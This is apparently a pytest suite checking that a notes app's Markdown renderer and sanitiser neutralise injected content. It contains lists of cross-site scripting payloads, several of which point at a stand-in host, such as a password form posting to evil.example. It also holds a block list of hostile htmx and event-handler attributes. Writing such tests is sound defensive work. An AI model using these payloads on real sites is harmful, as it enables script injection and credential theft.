"""Nothing that a note holds can run, load, send or pretend, wherever in the note it stands.

The corpus is made by rule: every payload in every place, @@.
"""

import pytest

from notes.markdown import render
from notes.markdown.sanitise import sanitise
from notes.tests.markup import assert_elements_harmless, assert_harmless, read

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&Tab;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "%6Aavascript:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://a.b/c",
    "view-source:javascript:alert(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    'https://a.b/" onclick="alert(1)',
    "https://[::1",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "' onmouseover=alert(1) x='",
    '" onfocus="alert(1)" autofocus="',
    '" hx-get="/accounts/logout/" hx-trigger="load',
    '" data-hx-post="/x" hx-on:load="alert(1)',
    "<div hx-get=/x hx-trigger=load hx-vals='js:{a:alert(1)}'></div>",
    "<hx-partial hx-target='#feed'>x</hx-partial>",
    "<hx-x hx-get=/x hx-trigger=load>",
    "<head>",
    "</div></article></main><h1>Sign in again</h1>",
    "<!--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=//evil.example>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "<x id=feed class=saved style=position:fixed>",
    "{{ 7|add:7 }}{% csrf_token %}",
    "\u202e<script>\u2066",
    "<scr\0ipt>alert(1)</scr\0ipt>",
]
PLACES = [
    "@@",
    "a @@ b",
    "*@@* **@@** ~~@@~~",
    "[x](@@)",
    "[x](<@@>)",
    "[@@](/a)",
    '[x](/a "@@")',
    "[x](/a '@@')",
    "[x]: @@\n\n[x]",
    '[x]: /a "@@"\n\n[x]',
    "<@@>",
    "![@@](/a.png)",
    "![x](@@)",
    '![x](/a.png "@@")',
    "[![x](@@)](/a)",
    "https://a.b/@@",
    "https://a.b/?q=@@",
    "ada@example.org@@",
    "# @@",
    "@@\n===",
    "[x](#@@)",
    "> @@",
    "> [!tip] @@\n> @@",
    "> [!@@] x",
    "- @@\n- [x] @@",
    "1. @@",
    "| @@ | b |\n|---|---|\n| @@ | d |",
    "|a|\n|@@|\n|-|",
    "a[^1]\n\n[^1]: @@",
    "a[^@@]\n\n[^@@]: b",
    "a^[@@]",
    "`@@`",
    "``` @@\ncode\n```",
    "```python @@\n@@\n```",
    "```html\n@@\n```",
    "```mermaid\n@@\n```",
    "```math\n@@\n```",
    "    @@",
    "$@@$",
    "$$\n@@\n$$",
    "$\\text{@@}$",
    "$\\href{@@}{x}$",
    "$\\style{@@}{x} \\class{@@}{x}$",
    "$\\color{@@}{x} \\tag{@@}$",
    "$\\operatorname{@@}$",
    "$\\verb|@@|$",
    "$\\begin{array}{@@} a \\end{array}$",
    "$\\hspace{@@} \\unicode{@@}$",
]


@pytest.mark.parametrize("place", PLACES)
def test_every_payload_in_this_place_is_harmless(place: str) -> None:
    for payload in ADDRESSES + MARKUP:
        page = render(place.replace("@@", payload))
        for block in page.blocks:
            assert_harmless(block.html)
        for heading in page.outline:
            assert heading.id.startswith("p-")
            assert not set(heading.id) & set("\"'<>&= ")


@pytest.mark.parametrize("payload", MARKUP + [f'<a href="{address}">x</a>' for address in ADDRESSES])
def test_the_second_lock_holds_alone(payload: str) -> None:
    """Even if the renderer let HTML through; and what a browser makes of the outcome is harmless again."""
    for soup in (payload, f"<p>{payload}</p>", f"<math><mi>{payload}</mi></math>"):
        assert_elements_harmless(sanitise(soup))
        assert_elements_harmless(sanitise(sanitise(soup)))


HOSTILE = """
    hx-get hx-post hx-put hx-delete hx-patch hx-swap hx-target hx-trigger hx-boost hx-ws:connect hx-vals hx-config
    hx-on:click hx-on::load hx-headers hx-include hx-ext hx-confirm hx-select-oob hx-swap-oob hx-preserve hx-action
    data-hx-get data-note data-command data-live-notebook data-lines sse-connect ws-connect
    onclick onload onerror onfocus onmouseover onanimationstart onbeforetoggle
    style srcdoc src srcset action formaction background poster ping xlink:href name for form contenteditable
    autofocus accesskey popover popovertarget is slot part nonce http-equiv
"""


@pytest.mark.parametrize("attribute", HOSTILE.split())
def test_no_element_carries_this_attribute(attribute: str) -> None:
    for tag in ("a", "div", "span", "p", "h1", "li", "code", "pre", "table", "math", "mi", "figure", "section"):
        cleaned = sanitise(f'<{tag} {attribute}="x" {attribute.upper()}="y">z</{tag}>')
        for _, attributes in read(cleaned).elements:
            assert attribute not in attributes


def test_roles_and_classes_are_only_our_own() -> None:
    html = sanitise('<div class="callout toast modal" role="alert">x</div><span class="face k">y</span>')
    assert html == '<div class="callout">x</div><span class="k">y</span>'


def test_ids_are_moved_out_of_the_pages_way() -> None:
    assert sanitise('<h2 id="feed">x</h2>') == '<h2 id="p-feed">x</h2>'
